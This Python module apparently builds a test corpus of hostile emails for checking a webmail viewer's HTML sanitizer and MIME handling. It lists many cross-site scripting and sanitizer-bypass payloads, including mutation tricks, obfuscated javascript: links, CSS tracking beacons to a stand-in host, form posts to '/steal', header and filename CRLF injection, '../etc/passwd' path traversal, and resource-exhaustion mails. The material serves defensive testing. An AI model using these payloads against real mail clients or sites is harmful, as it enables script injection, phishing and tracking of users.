# ruff: noqa: E501  # each stands on one line, as it is sent
"""Mails that do something to whoever looks at them: run a script, ask somebody outside, send a form, leave their frame,
split a header of the answer, give a file another name, or keep the page busy.

What runs writes `ran` to the console and opens a dialog; what asks somebody asks `OUTSIDE`.
"""

import base64
from collections.abc import Iterator
from dataclasses import dataclass, field
from functools import cache

OUTSIDE = "http://outside.example"
RUN = "console.log(`ran`),alert(`ran`)"
_RUN_ESCAPED = "".join(f"&#{ord(letter)};" for letter in f"javascript:{RUN}")
_SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"><script>{RUN}</script></svg>'
_SVG_DATA = base64.b64encode(_SVG.encode()).decode()
_PAGE_DATA = base64.b64encode(f"<script>{RUN}</script>".encode()).decode()
PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)


@dataclass(frozen=True)
class HostileMail:
    """A mail by name. `html`: what is hostile in it, where that is HTML."""

    name: str
    raw: bytes = field(repr=False)
    html: str | None = field(default=None, repr=False)


PAGES = {
    # scripts
    "script": f"<script>{RUN}</script>",
    "script-of-another-host": f'<script src="{OUTSIDE}/x.js"></script>',
    "script-in-capitals": f"<ScRiPt>{RUN}</sCrIpT>",
    "script-with-a-slash": f"<script/x>{RUN}</script/x>",
    "script-that-is-not-closed": f"<script>{RUN}//",
    "script-within-a-script": f"<scr<script>ipt>x</script><script>{RUN}</script>",
    "script-behind-a-comment": f"<!--><script>{RUN}</script>-->",
    "script-behind-a-comment-with-a-bang": f"<!-- --!><script>{RUN}</script>",
    "script-in-a-conditional-comment": f"<!--[if gte mso 9]><script>{RUN}</script><![endif]-->",
    "script-in-a-revealed-comment": f"<![if !mso]><script>{RUN}</script><![endif]>",
    "script-in-cdata": f"<![CDATA[><script>{RUN}</script>]]>",
    "script-in-a-processing-instruction": f"<?xml version='1.0'?><?x ><script>{RUN}</script>?>",
    "script-as-module": f"<script type=module>{RUN}</script>",
    "script-of-a-link": f'<link rel=stylesheet href="{OUTSIDE}/x.css"><link rel=preload as=script href="{OUTSIDE}/x.js">',
    "script-that-imports": f"<script type=module>import('{OUTSIDE}/x.js')</script>",
    "nul-in-a-name": f"<scr\0ipt>{RUN}</scr\0ipt><img src=x on\0error={RUN}>",
    # what events do
    "picture-that-fails": f'<img src="x:x" onerror="{RUN}">',
    "picture-without-quotes": f"<img src=x:x onerror={RUN}>",
    "picture-with-slashes": f"<img/src=x:x/onerror={RUN}>",
    "picture-with-line-ends": f"<img\nsrc=x:x\nonerror\n=\n{RUN}>",
    "picture-with-a-form-feed": f"<img\x0csrc=x:x\x0conerror={RUN}>",
    "picture-with-grave-accents": f"<img src=`x:x` onerror={RUN}>",
    "body-that-loads": f'<body onload="{RUN}">x</body>',
    "focus-by-itself": f"<input autofocus onfocus={RUN}><div tabindex=1 autofocus onfocus={RUN}>x</div>",
    "details-that-open": f"<details open ontoggle={RUN}><summary>x</summary>x</details>",
    "animation-that-begins": f"<style>@keyframes x{{from{{color:red}}}}</style><b style='animation:x 1s' onanimationstart={RUN}>x",
    "transition": f"<a id=x style='transition:color .1s' ontransitionend={RUN}>x</a><style>#x:target{{color:red}}</style>",
    "marquee": f"<marquee onstart={RUN}>x</marquee>",
    "sound-that-fails": f'<audio src="x:x" onerror="{RUN}"></audio><video><source onerror="{RUN}" src="x:x"></video>',
    "pointer": f"<p onclick={RUN} onpointerover={RUN} onmouseover={RUN}>x</p><button onclick={RUN}>x</button>",
    "search-of-a-page": f"<b hidden=until-found onbeforematch={RUN}>x</b><p oncontentvisibilityautostatechange={RUN} style='display:block;content-visibility:auto'>x",
    # links
    "link-javascript": f'<a href="javascript:{RUN}">Pay now</a>',
    "link-javascript-escaped": f'<a href="{_RUN_ESCAPED}">Pay now</a>',
    "link-javascript-with-a-tab": f'<a href="java\tscript:{RUN}">Pay now</a>',
    "link-javascript-with-a-control": f'<a href="\x01javascript:{RUN}">Pay now</a>',
    "link-javascript-in-capitals": f'<a href=" JaVaScRiPt:{RUN}">Pay now</a>',
    "link-vbscript": "<a href='vbscript:msgbox(1)'>Pay now</a>",
    "link-data": f'<a href="data:text/html;base64,{_PAGE_DATA}">Pay now</a>',
    "link-outside": f'<a href="{OUTSIDE}/pay">Pay now</a>',
    "link-of-the-same-site": '<a href="/logout">Pay now</a><a href="/m/default/attention">x</a>',
    "link-to-the-top": f'<a href="{OUTSIDE}/pay" target=_top>Pay now</a>',
    "link-that-pings": f'<a href="#x" ping="{OUTSIDE}/ping">Pay now</a>',
    "link-of-a-map": f'<map name=m><area shape=default href="{OUTSIDE}/pay"></map><img usemap="#m" width=99 height=99 alt=x>',
    "link-in-svg": f'<svg><a xlink:href="javascript:{RUN}" href="javascript:{RUN}"><text y=20>Pay</text></a></svg>',
    "link-in-mathml": f'<math href="javascript:{RUN}"><mtext><a xlink:href="javascript:{RUN}">Pay</a></mtext></math>',
    # what loads by itself
    "picture-outside": f'<img src="{OUTSIDE}/pixel.gif">',
    "picture-without-a-scheme": '<img src="//outside.example/pixel.gif">',
    "picture-of-the-same-site": '<img src="/logout"><img src="/m/default/orders/export">',
    "picture-in-a-set": f'<img srcset="{OUTSIDE}/pixel.gif 1x"><picture><source srcset="{OUTSIDE}/p.gif"><img></picture>',
    "picture-svg-data": f'<img src="data:image/svg+xml;base64,{_SVG_DATA}">',
    "picture-of-a-long-name": f'<img src="cid:{"x" * 5000}"><img src="cid:"><img src="CID:one"><img src="cid:../one">',
    "picture-that-only-looks-inner": f'<img src="cid:{OUTSIDE}/pixel.gif"><img src="cid:javascript:{RUN}">',
    "background": f'<body background="{OUTSIDE}/b.gif"><table background="{OUTSIDE}/b.gif"><td background="{OUTSIDE}/b.gif">x</table>',
    "picture-input": f'<input type=image src="{OUTSIDE}/p.gif"><video poster="{OUTSIDE}/p.gif"></video>',
    "sound": f'<audio autoplay src="{OUTSIDE}/a.mp3"></audio><video autoplay><source src="{OUTSIDE}/v.mp4"><track src="{OUTSIDE}/t.vtt" default></video>',
    "links-in-the-head": f'<link rel=prefetch href="{OUTSIDE}/x"><link rel=icon href="{OUTSIDE}/x"><link rel=dns-prefetch href="{OUTSIDE}"><link rel=preconnect href="{OUTSIDE}"><link rel=manifest href="{OUTSIDE}/x">',
    "svg-picture": f'<svg><image href="{OUTSIDE}/p.gif" xlink:href="{OUTSIDE}/p.gif"/><use href="{OUTSIDE}/x.svg#x"/><feImage href="{OUTSIDE}/p.gif"/></svg>',
    # styles
    "style-of-another-host": f'<style>@import "{OUTSIDE}/x.css";</style>',
    "style-with-a-picture": f"<style>body{{background:url({OUTSIDE}/b.gif)}}</style>",
    "style-with-a-font": f"<style>@font-face{{font-family:f;src:url({OUTSIDE}/f.woff)}}body{{font-family:f}}</style>Hi",
    "style-inline-picture": f'<p style="background:url({OUTSIDE}/b.gif)">x</p>',
    "style-inline-picture-escaped": f'<p style="background:u\\72l({OUTSIDE}/b.gif)">x</p>',
    "style-inline-picture-entities": f'<p style="background&#58;url&#40;&#39;{OUTSIDE}/b.gif&#39;)">x</p>',
    "style-inline-image-set": f"<p style=\"background-image:image-set('{OUTSIDE}/b.gif' 1x)\">x</p>",
    "style-inline-list": f'<ul><li style="list-style:url({OUTSIDE}/b.gif)">x</ul>',
    "style-inline-content": f'<p style="content:url({OUTSIDE}/b.gif)">x</p><p style="cursor:url({OUTSIDE}/c.cur),auto">x</p>',
    "style-inline-variable": f'<p style="--x:url({OUTSIDE}/b.gif);background:var(--x)">x</p>',
    "style-inline-in-a-value": f'<p style="color:red;font-family:a;background-color:url({OUTSIDE}/b.gif)">x</p><p style="border-image:url({OUTSIDE}/b.gif) 1">y</p>',
    "style-inline-behind-a-quote": f"<p style=\"font-family:'a;background:url({OUTSIDE}/b.gif)'\">x</p>",
    "style-inline-filter": f'<p style="filter:url({OUTSIDE}/f.svg#f);mask:url({OUTSIDE}/m.svg#m);clip-path:url({OUTSIDE}/c.svg#c)">x</p>',
    "style-expression": f"<p style=\"width:expression({RUN})\">x</p><p style='behavior:url(x.htc)'>x</p><p style='-moz-binding:url(x)'>x",
    "style-that-covers-the-page": '<div style="position:fixed;inset:0;z-index:9999;background:white">Sign in again: <a href="/logout">x</a></div>',
    "style-that-closes-itself": f"<style></style><script>{RUN}</script></style>",
    "style-with-markup-in-it": f'<style><img src="</style><img src=x:x onerror={RUN}>"></style>',
    "style-that-is-misread-in-svg": f"<svg></p><style><a id=\"</style><img src=x:x onerror={RUN}>\">",
    "style-in-capitals-and-broken": f"<p style=\"BACKGROUND:URL('{OUTSIDE}/b.gif\n')\">x</p><p STYLE='background:url({OUTSIDE}/b.gif)'>x",
    # what leads elsewhere
    "refresh": f'<meta http-equiv=refresh content="0;url={OUTSIDE}/">',
    "refresh-to-a-script": f'<meta http-equiv=refresh content="0;url=data:text/html;base64,{_PAGE_DATA}">',
    "refresh-in-a-noscript": f'<noscript><meta http-equiv=refresh content="0;url={OUTSIDE}/"></noscript>',
    "base": f'<base href="{OUTSIDE}/" target=_top><img src="pixel.gif"><a href="pay">Pay</a>',
    "policy-of-its-own": f"<meta http-equiv=Content-Security-Policy content=\"default-src *\"><img src={OUTSIDE}/p.gif>",
    "charset-of-its-own": f'<meta charset=utf-7>+ADw-script+AD4-{RUN}+ADw-/script+AD4-<meta http-equiv=set-cookie content="ion_session=x">',
    # forms
    "form": f'<form action="{OUTSIDE}/steal" method=post><input name=p value=x><button>Sign in</button></form>',
    "form-that-a-button-sends": f'<form id=f></form><button form=f formaction="{OUTSIDE}/steal">x</button><input type=submit form=f formaction="javascript:{RUN}">',
    "form-of-this-site": '<form action="/m/default/attention/1/1/release" method=post><button>x</button></form>',
    "form-that-is-not-closed": f'<form action="{OUTSIDE}/steal"><textarea name=all><button>Sign in',
    "form-in-a-form": f'<form id=a><div></form><form action="{OUTSIDE}/steal"><input type=image src=x onerror={RUN}></form>',
    # frames and objects
    "frame": f'<iframe src="{OUTSIDE}/"></iframe><iframe src="javascript:{RUN}"></iframe>',
    "frame-of-a-text": f'<iframe srcdoc="<script>{RUN}</script>"></iframe>',
    "frame-of-this-site": '<iframe src="/account"></iframe><iframe sandbox="allow-scripts allow-same-origin" src="/"></iframe>',
    "frameset": f'<frameset><frame src="javascript:{RUN}"><frame src="{OUTSIDE}/"></frameset>',
    "object": f'<object data="{OUTSIDE}/x.swf"></object><object data="data:text/html;base64,{_PAGE_DATA}"></object>',
    "embed": f'<embed src="{OUTSIDE}/x.pdf"><embed src="data:image/svg+xml;base64,{_SVG_DATA}"><applet code=x archive="{OUTSIDE}/x.jar"></applet>',
    "portal-and-others": f'<portal src="{OUTSIDE}/"></portal><fencedframe src="{OUTSIDE}/"></fencedframe><keygen autofocus onfocus={RUN}><isindex type=image src=1 onerror={RUN}>',
    # SVG, MathML, and what changes its meaning when it is written out and read again
    "svg": _SVG,
    "svg-that-animates": f'<svg><animate onbegin={RUN} attributeName=x dur=1s><set attributeName=onmouseover to={RUN}></svg>',
    "svg-that-sets-a-link": f'<svg><a><animate attributeName=href values="javascript:{RUN}"/><text y=20>Pay</text></a></svg>',
    "svg-with-html-in-it": f"<svg><foreignObject><body onload={RUN}><iframe srcdoc='<script>{RUN}</script>'></iframe></foreignObject></svg>",
    "svg-with-a-description": f"<svg><desc><img src=x:x onerror={RUN}></desc><title><script>{RUN}</script></title></svg>",
    "svg-handler": f'<svg><handler ev:event=load>{RUN}</handler><script href="{OUTSIDE}/x.js"/></svg>',
    "mathml-action": f"<math><maction actiontype=statusline onclick={RUN}>x<mtext>y</mtext></maction></math>",
    "mathml-annotation": f'<math><annotation-xml encoding="text/html"><img src=x:x onerror={RUN}></annotation-xml></math>',
    "mutation-of-a-glyph": f"<form><math><mtext></form><form><mglyph><style></math><img src=x:x onerror={RUN}>",
    "mutation-of-a-table": f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x:x onerror={RUN}&gt;\">",
    "mutation-of-a-noscript": f'<noscript><p title="</noscript><img src=x:x onerror={RUN}>">',
    "mutation-of-a-noembed": f'<noembed><p title="</noembed><img src=x:x onerror={RUN}>"></noembed><noframes><p title="</noframes><img src=x:x onerror={RUN}>">',
    "mutation-of-a-textarea": f'<textarea><p title="</textarea><img src=x:x onerror={RUN}>">',
    "mutation-of-a-title": f'<title><p title="</title><img src=x:x onerror={RUN}>">',
    "mutation-of-an-xmp": f'<xmp><p title="</xmp><img src=x:x onerror={RUN}>"></xmp><listing>&lt;img src=x:x onerror={RUN}&gt;</listing>',
    "mutation-of-plaintext": f"<plaintext><img src=x:x onerror={RUN}></plaintext><script>{RUN}</script>",
    "mutation-of-a-template": f"<template><img src=x:x onerror={RUN}></template><template shadowrootmode=open><img src=x:x onerror={RUN}></template><div><template shadowrootmode=open><img src=x:x onerror={RUN}></template></div>",
    "mutation-of-a-select": f"<select><template><style><!--</style><a rel='--></style></template></select><img src=x:x onerror={RUN}>'>",
    "mutation-of-an-attribute": f'<p title="`&quot;&gt;&lt;img src=x:x onerror={RUN}&gt;">x</p><img alt="``onerror={RUN} src=x:x">',
    "mutation-of-svg-title": f"<svg><title><style><img title='</style></title></svg><img src=x:x onerror={RUN}>'></svg>",
    "parser-that-moves": f"<table><tr><style></style><a><table><a href='javascript:{RUN}'></table><img src=x:x onerror={RUN}></table>",
    "clobbering": f"<img name=body><img name=cookie><a id=location href='javascript:{RUN}'></a><form name=querySelector><input name=attributes></form>",
    "ids-of-the-page": '<dialog open id=keys>x</dialog><a id=main data-key=n href="/logout">x</a><tr data-row><td><a href="/logout">x</a>',
    "end-of-the-frame": f"</iframe></section></main></body></html><script>{RUN}</script>",
    "end-of-the-attribute": f"\"></iframe><script>{RUN}</script><iframe title=\"",
    "nothing-but-brackets": "<" * 2000 + ">" * 2000 + "<a<b<c" + "&#0;&#x110000;&#xD800;&amp;lt;script&gt;",
    "directions": "<p dir=rtl>\u202e\u2066txt.exe\u2069\u202c</p><bdo dir=rtl>drowssap</bdo>\u200b\ufeff\u2028\u2029",
}  # fmt: skip
"""HTML by its name."""

OF_OTHER_PROGRAMS = frozenset(
    "script-that-is-not-closed script-in-a-conditional-comment transition marquee link-in-svg link-in-mathml"
    " link-vbscript picture-svg-data style-inline-behind-a-quote style-expression refresh-in-a-noscript"
    " form-that-is-not-closed portal-and-others svg-that-sets-a-link mathml-action mutation-of-a-glyph"
    " mutation-of-a-table mutation-of-plaintext mutation-of-a-select mutation-of-an-attribute nothing-but-brackets"
    " directions style-that-covers-the-page".split()
)
"""Of `PAGES` those that do nothing in Chromium as they stand: it is another browser or another way to clean HTML, or a
person, that they fool."""

HEADERS = {
    "subject-with-markup": f"Subject: <script>{RUN}</script>\"'><img src=x:x onerror={RUN}>",
    "subject-with-line-ends": "Subject: =?utf-8?q?x=0D=0ASet-Cookie:_stolen=3D1=0D=0A=0D=0A<script>?=",
    "subject-with-encoded-markup": f"Subject: =?utf-8?b?{base64.b64encode(f'</title><script>{RUN}</script>'.encode()).decode()}?=",
    "subject-that-turns-round": "Subject: =?utf-8?q?order_=E2=80=AEexe=2Eredro=E2=81=A6?=",
    "subject-of-another-charset": "Subject: =?utf-7?q?+ADw-script+AD4-x?= =?hz-gb-2312?b?fn57?= =?unknown-8bit?q?=FF?= =?idna?q?x?=",
    "subject-without-end": "Subject: " + "=?utf-8?q?x?= " * 5000,
    "subject-of-encoded-words-in-themselves": "Subject: =?utf-8?q?=3D=3Futf-8=3Fq=3F=3Cscript=3E=3F=3D?=",
    "from-with-markup": f'From: "</dd><script>{RUN}</script>" <a@"><svg onload={RUN}>.example>',
    "from-with-controls": "From: =?utf-8?q?=00=08=1B]0;x=07Ana?= <a@b.example>\x00\x1b[31m",
    "name-of-a-field": f"X-<script>{RUN}</script>: x\nX-Accel-Redirect: /etc/passwd\nRefresh: 0;url={OUTSIDE}/\nSet-Cookie: ion_session=x",
    "fields-that-steer-a-browser": "Content-Security-Policy: default-src *\nLocation: http://outside.example/\nContent-Location: http://outside.example/\nContent-Base: http://outside.example/\nLink: <http://outside.example/x.css>; rel=stylesheet",
    "fields-without-number": "\n".join(f"X-{number}: <b>{number}" for number in range(450)),
    "field-without-end": "X-Long: " + "<i>" * 100_000,
    "mail-address-that-closes": "Reply-To: \"><a href='javascript:alert(1)'>\r\n <b>@x.example",
}  # fmt: skip
"""Header fields by name; a line end in one begins another."""


@dataclass(frozen=True)
class _File:
    """An attached file: the lines of its header as they are written, and its octets."""

    header: str
    octets: bytes = b"octets"


def _named(name: str, content_type: str = "application/pdf", octets: bytes = b"octets") -> _File:
    return _File(f'Content-Type: {content_type}\nContent-Disposition: attachment; filename="{name}"', octets)


def _named_exactly(name: str, content_type: str = "application/pdf") -> _File:
    return _File(f"Content-Type: {content_type}\nContent-Disposition: attachment; filename*=utf-8''{name}")


FILES = {
    "file-name-with-line-ends": _named_exactly("a%0D%0ASet-Cookie:%20stolen=1%0D%0A%0D%0A%3Cscript%3E.pdf"),
    "file-name-with-encoded-line-ends": _named("=?utf-8?q?a=0D=0AX-Split:_1=0D=0A=0D=0Ax?="),
    "file-name-with-quotes": _named('a\\"; filename=\\"evil.html\\"; x=\\".pdf'),
    "file-name-with-a-quote": _named_exactly("a%22;%20filename=%22evil.html.pdf"),
    "file-name-that-turns-round": _named_exactly("order%E2%80%AEfdp.exe"),
    "file-name-that-is-a-path": _named("../../../../etc/passwd"),
    "file-name-that-is-a-windows-path": _named("C:\\\\Windows\\\\evil.bat"),
    "file-name-of-a-device": _named("CON"),
    "file-name-hidden": _named(".htaccess"),
    "file-name-with-markup": _named(f"<img src=x:x onerror={RUN}>.pdf"),
    "file-name-that-closes": _named_exactly("%3C%2Fa%3E%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
    "file-name-with-nul": _named_exactly("a%00.html%7F%C2%85%E2%80%A8b"),
    "file-name-without-end": _named("x" * 9000 + ".pdf"),
    "file-name-of-blanks-and-dots": _named(" .. . "),
    "file-name-of-broken-octets": _named_exactly("%FF%FE%ED%A0%80%80.pdf"),
    "file-name-in-pieces": _File(
        "Content-Type: application/pdf\nContent-Disposition: attachment; filename*0*=utf-8''a%0D; filename*1*=%0Ab;"
        ' filename*2="<b>.html"'
    ),
    "file-name-percent": _named("%0d%0aX-Split: 1.pdf"),
    "file-of-html": _named("order.html", "text/html", f"<script>{RUN}</script>".encode()),
    "file-of-svg": _named("order.svg", "image/svg+xml", _SVG.encode()),
    "file-of-xhtml": _named(
        "order.xhtml",
        "application/xhtml+xml",
        f'<html xmlns="http://www.w3.org/1999/xhtml"><script>{RUN}</script></html>'.encode(),
    ),
    "file-of-xml-with-a-style": _named(
        "order.xml",
        "text/xml",
        f'<?xml-stylesheet type="text/xsl" href="{OUTSIDE}/x.xsl"?><!DOCTYPE a [<!ENTITY e SYSTEM "{OUTSIDE}/e">]>'
        "<a>&e;</a>".encode(),
    ),
    "file-type-with-markup": _File(
        f"Content-Type: image/<script>{RUN}</script>; name=x\nContent-Disposition: attachment"
    ),
    "file-type-that-lies": _named("order.png", "image/png", f"<html><script>{RUN}</script>".encode()),
    "file-that-is-two-things": _named("order.gif", "image/gif", f"GIF89a/*<script>{RUN}</script>*/=1".encode()),
    "file-of-a-web-page-as-message": _named("order.mhtml", "multipart/related", f"<script>{RUN}</script>".encode()),
}
"""Attached files by name."""

PICTURES = {
    "picture-svg-inside": ("image/svg+xml", _SVG.encode()),
    "picture-svg-that-says-png": ("image/png", _SVG.encode()),
    "picture-html-that-says-gif": ("image/gif", f"<script>{RUN}</script>".encode()),
    "picture-that-is-a-script-too": ("image/gif", f"GIF89a=0;{RUN}//<script>{RUN}</script>".encode()),
    "picture-of-a-type-that-closes": ('image/png"><script>alert(1)</script>', PNG),
    "picture-too-large": ("image/png", PNG + bytes(1_500_000)),
}
"""Pictures of a mail, which its HTML names by `cid:one`: type and octets."""


@cache
def hostile_mails() -> tuple[HostileMail, ...]:
    """All of them, each of another name."""
    return tuple(_all())


def _all() -> Iterator[HostileMail]:
    for name, html in PAGES.items():
        yield HostileMail(name, _mail(html=html), html)
    for name, lines in HEADERS.items():
        yield HostileMail(name, _mail(header=lines))
    for name, file in FILES.items():
        yield HostileMail(name, _mail(files=[file]))
    for name, (content_type, octets) in PICTURES.items():
        head = f"Content-Type: {content_type}\nContent-ID: <one>\nContent-Disposition: inline"
        html = '<p>x<img src="cid:one" alt="p">'
        yield HostileMail(name, _mail(html=html, files=[_File(head, octets)]), html)
    for name, raw in _wholes():
        yield HostileMail(name, raw.encode() if isinstance(raw, str) else raw)


def _wholes() -> Iterator[tuple[str, bytes | str]]:
    """Those that are hostile as a whole."""
    script = f"<script>{RUN}</script>"
    inner = _mail(html=script, header=f"Subject: {script}")
    yield "text-of-markup", _plain(f"</pre></textarea></title>{script}<!--")
    yield "text-with-directions", _plain("Total: \u202e00.1\u202c EUR \x1b[2J\x00\x07\u2066x")
    yield "text-of-another-charset", _plain("+ADw-script+AD4-x", "utf-7")
    yield "text-of-one-line", _plain("<b>" * 300_000)
    yield "text-of-lines", _plain("\n" * 300_000)
    yield "type-that-lies", f"Content-Type: text/plain\n\n{script}"
    yield "type-of-broken-parameters", f"Content-Type: text/html; charset*0=x; charset*1*=%FF; boundary\n\n{script}"
    yield "attached-mail", _enclosing("message/rfc822", inner, encoded=False)
    yield "attached-mail-in-base64", _enclosing("message/rfc822", inner, encoded=True)
    yield "attached-mail-of-another-type", _enclosing('application/octet-stream; name="x.eml"', inner, encoded=True)
    yield "attached-mails-without-end", _nested(inner, 60)
    yield "parts-without-end", _mail(files=[_named(f"{number}.txt", octets=b"x") for number in range(600)])
    yield "pages-without-end", _many("<p>x</p>" * 50, 300)
    yield "pages-that-are-long", _many("<table><tr><td>x" * 600, 120)
    yield "levels-without-end", _mail(html="<div>" * 100_000)
    yield "tables-without-end", _mail(html="<table><tr><td>" * 1_900)
    yield "page-without-end", _mail(html="<p style='color:red'>x</p>" * 60_000)
    yield "attributes-without-end", _mail(html="<p " + " ".join(f"a{n}=b" for n in range(50_000)) + ">x")
    yield "style-without-end", _mail(html=f'<p style="{"color:red;" * 40_000}">x')
    yield "entities-without-end", _mail(html="&lt;" * 100_000)
    yield (
        "picture-many-times",
        _mail(
            html='<img src="cid:one">' * 20_000,
            files=[
                _File("Content-Type: image/png\nContent-ID: <one>\nContent-Disposition: inline", PNG + bytes(100_000))
            ],
        ),
    )
    yield "header-alone", "Subject: x"
    yield "body-alone", f"\n\n{script}"
    yield "nothing", ""
    yield "zeros", bytes(10_000)
    yield "every-octet", bytes(range(256)) * 40
    yield (
        "boundary-that-is-missing",
        f"Content-Type: multipart/mixed\n\n--x\nContent-Type: text/html\n\n{script}\n--x--\n",
    )
    yield (
        "boundary-of-a-part-outside",
        (
            "Content-Type: multipart/mixed; boundary=a\n\n--a\nContent-Type: multipart/mixed; boundary=a\n\n--a\n"
            f"Content-Type: text/html\n\n{script}\n--a--\n"
        ),
    )
    yield "broken-transfer-encoding", f"Content-Type: text/html\nContent-Transfer-Encoding: base64\n\n{script}===\n"
    yield "charset-of-two-octets", b"Content-Type: text/html; charset=utf-16\n\n" + script.encode("utf-16")
    yield (
        "charset-with-escapes",
        b'Content-Type: text/html; charset=iso-2022-jp\n\n<p title="\x1b$B">\x1b(B' + script.encode(),
    )
    yield "surrogates", b"Content-Type: text/html; charset=utf-8\n\n\xed\xa0\x80<\xc0\xbcscript>" + script.encode()
    rtf = rb'{\rtf1\ansi{\field{\*\fldinst HYPERLINK "javascript:alert(1)"}}' + script.encode() + b"}"
    yield "rtf", _enclosing("application/rtf", rtf)
    yield "container-that-is-broken", _enclosing("application/ms-tnef", b"\x78\x9f\x3e\x22" + bytes(range(256)))
    yield "outlook-file-that-is-broken", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(5_000)


def _plain(text: str, charset: str = "utf-8") -> bytes:
    return f"Subject: x\nMIME-Version: 1.0\nContent-Type: text/plain; charset={charset}\n\n{text}\n".encode()


def _mail(*, html: str = "<p>Order</p>", header: str = "Subject: Order", files: list[_File] | None = None) -> bytes:
    """A mail with a text, a page and files, all as octets that are written as they stand, or in base64."""
    lines = [header, "MIME-Version: 1.0", "Content-Type: multipart/mixed; boundary=outer", "", "--outer"]
    lines += ["Content-Type: text/plain; charset=utf-8", "", "Order", "--outer"]
    lines += ["Content-Type: text/html; charset=utf-8", "Content-Transfer-Encoding: base64", "", _base64(html.encode())]
    for file in files or []:
        lines += ["--outer", file.header, "Content-Transfer-Encoding: base64", "", _base64(file.octets)]
    return "\n".join([*lines, "--outer--", ""]).encode("utf-8", "surrogatepass")


def _many(html: str, count: int) -> bytes:
    part = f"--outer\nContent-Type: text/html\n\n{html}\n"
    return f"Content-Type: multipart/mixed; boundary=outer\n\n{part * count}--outer--\n".encode()


def _enclosing(content_type: str, octets: bytes, *, encoded: bool = True) -> bytes:
    written = _base64(octets).encode() if encoded else octets
    encoding = "base64" if encoded else "8bit"
    head = f"Subject: x\nContent-Type: multipart/mixed; boundary=o\n\n--o\nContent-Type: {content_type}\n"
    return f"{head}Content-Transfer-Encoding: {encoding}\n\n".encode() + written + b"\n--o--\n"


def _nested(inner: bytes, levels: int) -> bytes:
    for _ in range(levels):
        inner = b"Subject: x\nContent-Type: message/rfc822\n\n" + inner
    return inner


def _base64(octets: bytes) -> str:
    return base64.encodebytes(octets).decode().rstrip()
